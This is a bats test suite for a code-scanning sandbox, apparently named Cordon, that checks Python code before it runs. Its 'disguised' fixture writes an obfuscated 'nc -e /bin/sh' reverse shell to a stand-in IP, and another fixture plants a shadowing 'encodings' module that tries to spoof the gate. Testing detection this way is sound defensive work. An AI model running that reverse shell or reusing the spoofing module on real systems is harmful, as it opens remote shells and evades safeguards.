#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# A Python run reads its own code while its interpreter starts (runtime/boot): the gate sees what is
# behind the code's disguises before a byte of it runs, and the program sees nothing of all that.
load helper
load scan.bash

# With any variable the code is read in another box (HOME alone lets modules in): that is how it is without.
elsewhere='--env UNUSED=1'

# What a program can see of the interpreter it runs in.
facts() {
	code facts.py <<-'END'
		import encodings, os, sys
		print(sys.path, sys.argv, sys.flags, sys.orig_argv, sys.warnoptions)
		print(sorted(k for k in os.environ if k != "UNUSED"), os.environ.get("PYTHONPATH"))
		print(sorted(os.listdir("/proc/self/fd")), os.getcwd(), __file__, __name__, __spec__)
		print(sorted(m for m in sys.modules if m not in ("sitecustomize", "types")))
		print(sorted(dir(encodings)), encodings.__file__, "x".encode("idna"), sorted(globals()))
		print(sys.path_importer_cache.keys() - {"/cordon/boot"} == sys.path_importer_cache.keys())
		try:
		    os.waitpid(-1, 0)
		except ChildProcessError:
		    print("no child")
		import gc
		print(gc.isenabled(), gc.get_threshold(), gc.get_freeze_count())
	END
}

same() {
	facts
	box "$1" facts.py -- a b
	exits 0
	cp out here
	# shellcheck disable=SC2086 # words
	box "$1" $elsewhere facts.py -- a b
	exits 0
	diff out here
	mkdir -p w
	box "$1" --workspace "$T/w:ro" facts.py
	exits 0
	cp out here
	# shellcheck disable=SC2086 # words
	box "$1" $elsewhere --workspace "$T/w:ro" facts.py
	exits 0
	diff out here
}
@test "a program sees no difference" {
	every same
}

# A wrapper counts how often a box is begun.
counted() {
	own_programs
	mv "$T/bin/cordon-box" "$T/bin/real"
	printf '#!/bin/sh\necho >>"%s"\nexec "%s/bin/real" "$@"\n' "$T/begun" "$T" >"$T/bin/cordon-box"
	chmod 755 "$T/bin/cordon-box"
}

# begins COUNT WAY WORDS...: that many boxes, or more than one.
begins() {
	: >"$T/begun"
	chmod 666 "$T/begun"
	status=0
	as "${2%%:*}" timeout 60 "$CORDON" run --tier "${2#*:}" "${@:3}" >"$T/out" 2>"$T/err" </dev/null || status=$?
	exits 0
	out_is 'ran'
	local begun
	begun=$(wc -l <"$T/begun")
	[ "$1" = "$begun" ] || { [ "$1" = more ] && [ "$begun" -gt 1 ]; } || show
}

once() {
	local conversation plan
	begins 1 "$1" x.py
	# shellcheck disable=SC2086 # words
	begins more "$1" $elsewhere x.py
	begins more "$1" --exec /bin/ls x.py
	begins 1 "$1" --cpu-time 30m --time 30m long.py
	begins more "$1" --cpu-time 3s --time 30m long.py
	conversation=$(as "${1%%:*}" "$CORDON" conversation new)
	plan=$(as "${1%%:*}" "$CORDON" plan --conversation "$conversation" x.py)
	begins 1 "$1" --conversation "$conversation" x.py
	begins 1 "$1" --conversation "$conversation" --plan "$plan" x.py
	begins 1 "$1" --conversation "$conversation" --exposed x.py
}
# bats test_tags=long
@test "one box and one interpreter for an ordinary run" {
	echo 'print("ran")' | code x.py
	# Its reading takes more than a share of three seconds, and none of half an hour.
	{ for i in $(seq 12000); do echo "x$i = [$i, 'a']"; done; echo 'print("ran")'; } | code long.py
	counted
	every once
}

# guessed WAY: the box is guessed from the request, and the decision is another: an untrusted directory makes
# it exposed, with a second's time.
guessed() {
	local who=${1%%:*} run conversation
	conversation=$(as "$who" "$CORDON" conversation new)
	run=(timeout 60 "$CORDON" run --tier "${1#*:}" --policy "$T/p.yaml" --conversation "$conversation")
	status=0
	as "$who" "${run[@]}" slow.py >"$T/out" 2>"$T/err" || status=$?
	exits 0
	out_is 'ran'
	as "$who" "${run[@]}" --workspace "$T/w:ro" slow.py >"$T/out" 2>"$T/err" || status=$?
	exits 124
	out_is ''
}
# bats test_tags=long
@test "a box that was prepared for another decision is not used" {
	mkdir "$T/w"
	printf 'version: 2\nexposed: {limits: {time: 1s}}\n' >"$T/p.yaml"
	printf 'import time\nfor seconds in (2, 1):\n    time.sleep(seconds)\nprint("ran")\n' | code slow.py
	every guessed
}

# unread WAY: Python runs it, and the code view cannot read it.
unread() {
	box "$1" --json cut.py
	exits 0
	holds 'r["stdout"] == "ran\n" and [f["id"] for f in r["rules"]] == ["CORDON-LIMIT-CODE"]'
	box "$1" cut.py
	exits 0
	out_is ran
	[ "$(cat "$T/err")" = "cordon: its code could not be parsed completely: the rules scanned its text" ] || show
	box "$1" --lang python x
	[ ! -s "$T/err" ] || show
}
@test "code that Python runs and the reader cannot read is not clean" {
	/usr/bin/python3 - "$T" <<-'END'
		import os, sys
		at = lambda name: os.path.join(sys.argv[1], name)
		code = 'print("ran")\n'
		with open(at("x"), "w") as source:
		    source.write(code)
		line = 'harmless = "%s"\n' % ("a" * 1000)
		with open(at("cut.py"), "w") as made:
		    made.write(code + 'x = """\n' + 420 * line + '"""; pass; y = """\nz\n""" # """\n')
		for name in "cut.py", "x":
		    os.chmod(at(name), 0o644)
	END
	every unread
}

# exchanged WAY: the name leads elsewhere when the box is built.
exchanged() {
	local tries refused=0
	for ((tries = 0; tries < 30; tries++)); do
		box "$1" --workspace "$T/link:ro" x.py
		[ "$status" -eq 0 ] || { exits 125; err_has 'was replaced while'; err_has 'do not replace the file'; refused=$((refused + 1)); }
	done
	[ "$refused" -gt 0 ] || show
}
# bats test_tags=long
@test "a workspace that is exchanged while it is looked at stops the run" {
	mkdir "$T/w1" "$T/w2"
	chmod 755 "$T/w1" "$T/w2"
	echo 'print("ran")' | code x.py
	ln -s w1 "$T/link"
	while :; do
		ln -sfn w2 "$T/link"
		ln -sfn w1 "$T/link"
	done &
	flips=$!
	every exchanged
	kill "$flips"
	wait "$flips" || :
	sleep 0.1 # the last ln
}

# Python runs the code also after a sitecustomize that failed.
@test "an interpreter that cannot wait for the decision ends" {
	mkdir "$T/boot"
	{
		printf 'import encodings\nencodings.reader = -1\n'
		cat "$TOP/runtime/boot/sitecustomize.py"
	} >"$T/boot/sitecustomize.py"
	echo 'print("ran")' | code x.py
	local ways
	for ways in 'no values' 'a closed descriptor'; do
		status=0
		PYTHONPATH=$T/boot /usr/bin/python3 x.py >"$T/out" 2>"$T/err" 7<&- || status=$?
		exits 125
		out_is ''
		printf '%s\n' 'code x.py' 'waits 1' 'telemetry 0 0' '' >"$T/boot/values"
	done
	sed -i 's/waits 1/waits 0/' "$T/boot/values"
	PYTHONPATH=$T/boot /usr/bin/python3 x.py >"$T/out" 2>"$T/err" 7</dev/null 8</dev/null
	out_is 'ran'
}

# As it is for a Python that was not there when Cordon was built: no code that it could take.
# bats test_tags=long
@test "another Python compiles the reader, and there is still one interpreter" {
	local magic
	magic=$(/usr/bin/python3 -c 'import importlib.util as u; print(u.MAGIC_NUMBER.hex())')
	[ "$(LC_ALL=C grep -c "$magic-[0-9]" "$CORDON")" -gt 0 ] && grep -q 'cpython-3' "$CORDON" || show
	LC_ALL=C sed -i "s/$magic-/00000000-/g; s/cpython-3/cpython-x/g" "$CORDON"
	every same
	disguised
	every denied
	echo 'print("ran")' | code x.py
	counted
	every begins_one
}

begins_one() {
	begins 1 "$1" x.py
}

# Denied for what only the code view shows.
disguised() {
	printf 'print("ran", flush=True)\nimport os as o\ngetattr(o, "sys" + "tem")("nc -e /bin/" + "sh 192.0.2.1 4444")\n' |
		code bad.py
}

# denied WAY OPTION...: and nothing of it, nor of anything that came with it, has run.
denied() {
	box "$1" "${@:2}" bad.py
	exits 126
	out_is ''
	run ! grep -q 'ran\|before' "$T/err"
	box "$1" --json "${@:2}" bad.py
	exits 126
	holds 'r["verdict"] == "deny" and r["stdout"] == "" and r["stderr"] == ""' \
		'[f["view"] for f in r["rules"] if f["grade"] == "denies"] == ["code"]'
}

found() {
	denied "$1"
	denied "$1" --pids 1
	denied "$1" --memory 24M
	denied "$1" --files 8
}
# bats test_tags=long
@test "a finding of the code view alone stops the run before it starts, under any limits" {
	disguised
	every found
}

# Its modules would be in the way of the interpreter that reads: one that answers for it, and one that
# Debian's own .pth file imports.
in_the_way() {
	denied "$1" --workspace "$T/w:ro"
	denied "$1" --workspace "$T/w"
	box "$1" --workspace "$T/w:ro" good.py
	exits 0
	out_has "$T/w/encodings/__init__.py"
}
@test "nothing of the workspace runs before the decision" {
	disguised
	mkdir -p "$T/w/encodings"
	code w/encodings/__init__.py <<-'END'
		import posix
		posix.write(1, b"before\n")
		for fd in 7, 1:
		    posix.write(fd, b"status 5\nwhole\ntext 9\nprint(1)\n\nend 0\n\n\xff")
	END
	echo 'print("before", flush=True)' | code w/_distutils_hack.py
	cp "$T/w/_distutils_hack.py" "$T/w/ast.py"
	cp "$T/w/_distutils_hack.py" "$T/w/usercustomize.py"
	chmod -R a+rX "$T/w"
	echo 'import importlib.machinery as m; print(m.PathFinder.find_spec("encodings").origin)' | code good.py
	every in_the_way
}

tight() {
	box "$1" --pids 1 x.py
	[ "$status" -eq 0 ] || show
	out_is 'ran'
	box "$1" --json --time 1s y.py
	exits 124
	holds 'r["stdout"] == ""'
	box "$1" z.py
	exits 1
	err_has 'SyntaxError'
}
@test "no room for a second process, no time, no Python" {
	echo 'print("ran")' | code x.py
	echo 'while True: pass' | code y.py
	echo 'def (' | code z.py
	every tight
}

# A rule that only matches in what the interpreter has read.
views() {
	rule "$T/one/a.yaml" ATR-2026-90001 low sunstone experimental
	sed -i 's/llm_io/tool_call/' "$T/one/a.yaml"
	printf 'print("sun" + "stone")\n' | code x.py
}

# planned WAY: each run finds something in what its own interpreter has read, and is what it was without.
planned() {
	local who=${1%%:*} expected conversation plan
	conversation=$(as "$who" "$CORDON" conversation new)
	plan=$(as "$who" "$CORDON" plan --conversation "$conversation" --rules "$T/one" --runs 2 x.py)
	for expected in plan plan agent; do
		as "$who" timeout 60 "$CORDON" run --json --tier "${1#*:}" --conversation "$conversation" --plan "$plan" \
			--rules "$T/one" x.py >"$T/out" 2>"$T/err"
		holds "r['origin'] == '$expected' and r['state'] == 'clean' and r['stdout'] == 'sunstone\\n'" \
			'[f["view"] for f in r["rules"]] == ["code"]'
	done
}
@test "a finding that is only shown does not lower the origin; each run uses one of a plan's runs" {
	views
	every planned
}

# The log has the run before its first byte is out: it is looked at while the program waits for a file.
recorded() {
	local tries
	rm -f "$T/out" "$T/w/go"
	trust "${1%%:*}" "$T/w"
	as "${1%%:*}" timeout 60 "$CORDON" run --user --tier "${1#*:}" --workspace "$T/w:ro" x.py >"$T/out" &
	local pid=$!
	for ((tries = 0; tries < 600; tries++)); do
		! grep -q begun "$T/out" || break
		sleep 0.05
	done
	as "${1%%:*}" "$CORDON" audit export --format jsonl >"$T/log"
	touch "$T/w/go"
	wait "$pid"
	/usr/bin/python3 - "$T/log" <<-'END'
		import json, sys
		kinds = [json.loads(line)["kind"] for line in open(sys.argv[1])]
		assert kinds[-4:] == ["request", "scan", "verdict", "start"], kinds
	END
	as "${1%%:*}" "$CORDON" audit export --format jsonl >"$T/log"
	/usr/bin/python3 - "$T/log" <<-'END'
		import json, sys
		kinds = [json.loads(line)["kind"] for line in open(sys.argv[1])]
		assert kinds[-5:] == ["request", "scan", "verdict", "start", "result"], kinds
	END
}
@test "one record of each, in order, before the first byte" {
	mkdir "$T/w"
	printf 'import os, time\nprint("begun", flush=True)\nwhile not os.path.exists("go"):\n    time.sleep(0.01)\n' |
		code x.py
	every recorded
}

# cores WAY: the program, and what it starts, may use just those that its caller may.
cores() {
	local outside set
	for set in all first last; do
		# shellcheck disable=SC2086 # words
		as "${1%%:*}" /usr/bin/python3 - "$set" "$CORDON" run --user --tier "${1#*:}" $2 x.py >"$T/out" <<-'END'
			import os, sys
			cores = sorted(os.sched_getaffinity(0))
			cores = {"all": cores, "first": cores[:1], "last": cores[-1:]}[sys.argv[1]]
			os.sched_setaffinity(0, cores)
			print(cores, flush=True)
			os.execv(sys.argv[2], sys.argv[2:])
		END
		outside=$(head -n 1 "$T/out")
		[ "$(cat "$T/out")" = "$(printf '%s\n' "$outside" "$outside" "$outside")" ] || show
	done
}
ways_of_cores() {
	cores "$1" ''
	cores "$1" "$elsewhere"
}
@test "the cores of the caller, in the box, in each of its threads" {
	[ "$(nproc)" -gt 1 ] || skip "one core"
	code x.py <<-'END'
		import os, threading
		print(sorted(os.sched_getaffinity(0)), flush=True)
		thread = threading.Thread(target=lambda: print(sorted(os.sched_getaffinity(0))))
		thread.start()
		thread.join()
	END
	every ways_of_cores
}

@test "the reader and cordon agree on descriptors and messages" {
	/usr/bin/python3 - "$TOP" <<-'END'
		import re, sys
		text = lambda name: open(sys.argv[1] + "/" + name).read()
		spec, reader = text("src/model/spec.h"), text("src/live/early_reader.h")
		number = lambda name, of: int(re.search(r"\b%s = (\w+)" % name, of)[1], 0)
		fds = {number("CHANNEL_FD", spec), number("PARTS_FD", spec)}
		end, go = number("READER_END", reader), re.search(r"\bREADER_GO = '(.)'", reader)[1]
		boot = text("runtime/boot/encodings.py") + text("runtime/boot/sitecustomize.py")
		used = {int(n) for n in re.findall(r"posix\.(?:p?read|write|close)\((\d+)[,)]", boot)}
		assert used == fds, (used, fds)
		assert set(re.findall(r"b'(\\x..|.)'", boot)) >= {"\\x%02x" % end, go}, (end, go)
		assert set(re.findall(r"b'(\\x..)'", boot)) == {"\\x%02x" % end}
		assert "!= b'%s'" % go in boot
	END
}
